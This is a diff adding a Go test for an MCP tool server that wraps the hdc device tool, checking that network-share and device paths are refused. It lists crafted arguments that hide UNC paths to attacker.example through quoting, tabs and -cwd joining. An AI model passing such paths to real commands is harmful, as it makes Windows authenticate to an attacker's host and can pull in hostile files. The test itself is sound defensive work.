@@ -1,0 +1,67 @@
+package hdc_test
+
+import (
+	"context"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/winbridge/winbridge/client"
+	"github.com/winbridge/winbridge/hdc"
+	"github.com/winbridge/winbridge/mcp"
+	"github.com/winbridge/winbridge/transport"
+	"github.com/winbridge/winbridge/winexec"
+)
+
+// TestRunNetworkPathsAsHdcSplits: hdc does not open an argument of file
+// send, file recv or install as it is. It joins the command line and
+// splits it again with Base::SplitCommandToArgs (src/common/file.cpp,
+// src/host/host_app.cpp), which drops double quotes and splits at tabs,
+// and joins a relative path to a -cwd value. A network share hidden that
+// way must be refused like a plain one: Windows would connect and
+// authenticate to the host, and file send needs no confirm.
+func TestRunNetworkPathsAsHdcSplits(t *testing.T) {
+	r := &countingRunner{}
+	ex, err := winexec.New(winexec.Config{Runner: r, HDCExe: "hdc.exe"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ex.Close()
+	srv := mcp.NewServer(&mcp.Implementation{Name: "netpath", Version: "1.0.0"}, nil)
+	hdc.AddTools(srv, ex, nil)
+	a, b := transport.Pipe(nil)
+	srv.Connect(b)
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	c, err := client.Connect(ctx, a, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	for _, args := range [][]string{
+		{"-t", "K1", "file", "send", `"\\attacker.example\share\x"`, "/data/local/tmp/x"},
+		{"-t", "K1", "file", "send", "a\t\\\\attacker.example\\share\\x", "/data/local/tmp/x"},
+		{"-t", "K1", "file", "send", "-cwd", `"\\attacker.example\share"`, "x", "/data/local/tmp/x"},
+		{"-t", "K1", "file", "recv", "/data/local/tmp/x", `"//attacker.example/share/x"`},
+		{"-t", "K1", "install", `"\\?\UNC\attacker.example\share\x.hap"`},
+		{"-t", "K1", "file send", "x\t\\\\.\\pipe\\x", "/data/local/tmp/x"},
+	} {
+		res, err := c.CallTool(ctx, hdc.ToolRun, map[string]any{"args": args, "confirm": true})
+		if err != nil || !res.IsError || !strings.Contains(res.TextOf(), "network share") && !strings.Contains(res.TextOf(), "device path") {
+			t.Errorf("hdc_run %q = %v %q; want refused as a network share or device path", args, err, res.TextOf())
+		}
+	}
+	if n := r.count(); n != 0 {
+		t.Errorf("hdc ran %d times: %q", n, r.runs)
+	}
+	// Drive paths, quoted or not, and WSL's share still run.
+	for _, args := range [][]string{
+		{"-t", "K1", "file", "send", `"C:\my files\x"`, "/data/local/tmp/x"},
+		{"-t", "K1", "file", "send", `\\wsl.localhost\Ubuntu\home\u\x`, "/data/local/tmp/x"},
+	} {
+		res, err := c.CallTool(ctx, hdc.ToolRun, map[string]any{"args": args})
+		if err != nil || res.IsError {
+			t.Errorf("hdc_run %q = %v %q; want it run", args, err, res.TextOf())
+		}
+	}
+}
